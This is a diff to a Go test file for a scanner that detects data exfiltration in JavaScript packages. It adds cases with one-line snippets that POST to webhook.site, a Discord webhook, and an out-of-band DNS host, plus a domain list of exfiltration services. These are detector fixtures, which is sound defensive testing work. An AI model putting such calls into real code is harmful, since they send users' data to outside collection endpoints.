@@ -20,6 +20,8 @@ func TestExfilService(t *testing.T) {
 		{"oast_concat", map[string]string{"index.js": `const h = "x1" + ".oast" + ".fun"; dns.lookup(h)`}, finding.SeverityHigh},
 		{"discord_webhook", map[string]string{"index.js": `fetch("https://discord.com/api/webhooks/1/abc", {method:"POST"})`}, finding.SeverityHigh},
 		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
+		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
+		{"bare_host_in_domain_list", map[string]string{"index.js": `const blocked = ["webhook.site", "pipedream.net"]`}, finding.SeverityNone},
 		{"lookalike_word", map[string]string{"index.js": `const doc = "see https://example.com/webhook.site-guide"; const p = "notpipedream.network"`}, finding.SeverityNone},
 	})
 }
